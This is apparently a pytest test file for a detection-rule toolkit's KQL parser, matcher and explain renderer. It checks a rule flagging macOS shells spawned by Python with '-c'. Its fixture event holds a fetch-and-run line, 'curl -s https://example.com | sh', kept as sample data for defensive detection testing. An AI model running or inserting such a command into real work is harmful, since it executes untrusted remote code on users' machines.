"""rule_kit.kql.explain on the seed rule's query (tree built by hand from nodes.py, and through the parser)."""

from __future__ import annotations

import copy

import pytest

from rule_kit.fields import catalog_for_indices
from rule_kit.kql.explain import explain
from rule_kit.kql.matcher import KqlTypeError, compile
from rule_kit.kql.nodes import STAR, AndOperation, Exists, Is, Literal, Nested, Not, OrOperation, Range, Wildcard
from rule_kit.kql.parser import parse

SHELLS = ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish")
SEED_TREE = AndOperation(
    Is("event.category", Literal("process")),
    Is("host.os.type", Literal("macos")),
    Is("event.type", Literal("start")),
    Is("event.action", Literal("exec")),
    Is("process.parent.name", Wildcard(("python", STAR))),
    OrOperation(*(Is("process.name", Literal(shell)) for shell in SHELLS)),
    Is("process.args", Literal("-c", quoted=True)),
    Not(
        OrOperation(
            *(Is("process.command_line", Wildcard((STAR, word, STAR))) for word in ("pip", "conda", "brew", "jupyter"))
        )
    ),
)
SEED_QUERY = """
event.category:process and host.os.type:macos and event.type:start and event.action:exec and
process.parent.name:python* and
process.name:(bash or dash or sh or tcsh or csh or zsh or ksh or fish) and process.args:"-c" and
not process.command_line:(*pip* or *conda* or *brew* or *jupyter*)
"""
FIELDS = catalog_for_indices(["logs-endpoint.events.process-*"])
MATCHING = {
    "@timestamp": "2024-06-01T12:00:00Z",
    "event": {"category": ["process"], "type": ["start"], "action": "exec"},
    "host": {"os": {"type": "macos", "name": "macOS"}},
    "process": {
        "name": "zsh",
        "args": ["/bin/zsh", "-c", "curl -s https://example.com | sh"],
        "command_line": "/bin/zsh -c curl -s https://example.com | sh",
        "parent": {"name": "python3.11"},
    },
}
RENDERED = """\
✓ and
  ✓ event.category:process  [event.category = "process"]
  ✓ host.os.type:macos  [host.os.type = "macos"]
  ✓ event.type:start  [event.type = "start"]
  ✓ event.action:exec  [event.action = "exec"]
  ✓ process.parent.name:python*  [process.parent.name = "python3.11"]
  ✓ process.name:(bash or dash or sh or tcsh or csh or zsh or ksh or fish)  [process.name = "zsh"]
  ✓ process.args:"-c"  [process.args = ["/bin/zsh", "-c", "curl -s https://example.com | sh"]]
  ✓ not process.command_line:(*pip* or *conda* or *brew* or *jupyter*)  \
[process.command_line = "/bin/zsh -c curl -s https://example.com | sh"]"""


def changed(path: str, value):
    event = copy.deepcopy(MATCHING)
    *parents, last = path.split(".")
    target = event
    for key in parents:
        target = target[key]
    if value is None:
        del target[last]
    else:
        target[last] = value
    return event


def test_parser_builds_the_same_tree():
    assert parse(SEED_QUERY) == SEED_TREE


def test_matching_macos_event():
    explanation = explain(SEED_TREE, MATCHING, FIELDS)
    assert explanation.result is True
    assert explanation.failing() == []
    assert explanation.render() == RENDERED
    assert compile(SEED_TREE, FIELDS)(MATCHING) is True


FAILURES = [
    ("event.category", ["network"], "event.category:process"),
    ("host.os.type", "linux", "host.os.type:macos"),
    ("event.type", ["end"], "event.type:start"),
    ("event.action", "fork", "event.action:exec"),
    ("process.parent.name", "Python", "process.parent.name:python*"),
    ("process.parent.name", None, "process.parent.name:python*"),
    ("process.name", "Zsh", "process.name:(bash or dash or sh or tcsh or csh or zsh or ksh or fish)"),
    ("process.args", ["/bin/zsh", "-ic"], 'process.args:"-c"'),
    (
        "process.command_line",
        "/bin/sh -c pip install requests",
        "not process.command_line:(*pip* or *conda* or *brew* or *jupyter*)",
    ),
]


@pytest.mark.parametrize(("path", "value", "label"), FAILURES, ids=[f"{p}={v!r}" for p, v, _ in FAILURES])
def test_event_failing_one_clause(path, value, label):
    event = changed(path, value)
    assert compile(SEED_TREE, FIELDS)(event) is False
    explanation = explain(SEED_TREE, event, FIELDS)
    assert explanation.result is False
    assert [leaf.label for leaf in explanation.failing()] == [label]
    line = next(line for line in explanation.render().splitlines() if line.startswith("  ✗"))
    assert line.startswith(f"  ✗ {label}  [")
    assert path in line
    # the parsed query explains the same way
    assert explain(parse(SEED_QUERY), event, FIELDS).render() == explanation.render()


def test_failing_line_shows_missing_and_actual_values():
    text = explain(SEED_TREE, changed("process.name", "Zsh"), FIELDS).render()
    assert '  ✗ process.name:(bash or dash or sh or tcsh or csh or zsh or ksh or fish)  [process.name = "Zsh"]' in text
    text = explain(SEED_TREE, changed("process.parent.name", None), FIELDS).render()
    assert "  ✗ process.parent.name:python*  [process.parent.name missing]" in text


def test_dotted_event_explains_like_nested():
    dotted = {
        "event.category": "process",
        "event.type": "start",
        "event.action": "exec",
        "host.os.type": "macos",
        "process.name": "zsh",
        "process.args": ["-c", "id"],
        "process.command_line": "zsh -c id",
        "process.parent.name": "python3",
    }
    assert explain(SEED_TREE, dotted, FIELDS).result is True


def test_mixed_tree_shapes():
    tree = OrOperation(
        AndOperation(Is("process.name", Literal("a")), Exists("process.pid")),
        Range("process.pid", ">", Literal("10")),
        Nested("threat.enrichments", Is("matched.field", Literal("x"))),
        Is(None, Literal("hello world", quoted=True)),
    )
    explanation = explain(tree, {"process": {"pid": 42}})
    assert explanation.result is True
    assert explanation.render().splitlines() == [
        "✓ or",
        "  ✗ and",
        "    ✗ process.name:a  [process.name missing]",
        "    ✓ process.pid:*  [process.pid = 42]",
        "  ✓ process.pid > 10  [process.pid = 42]",
        "  ✗ threat.enrichments:{ matched.field:x }",
        '  ✗ "hello world"',
    ]
    assert explanation.find("process.pid > 10").result is True


def test_explain_raises_type_errors():
    with pytest.raises(KqlTypeError):
        explain(Is("process.pid", Literal("abc")), {})
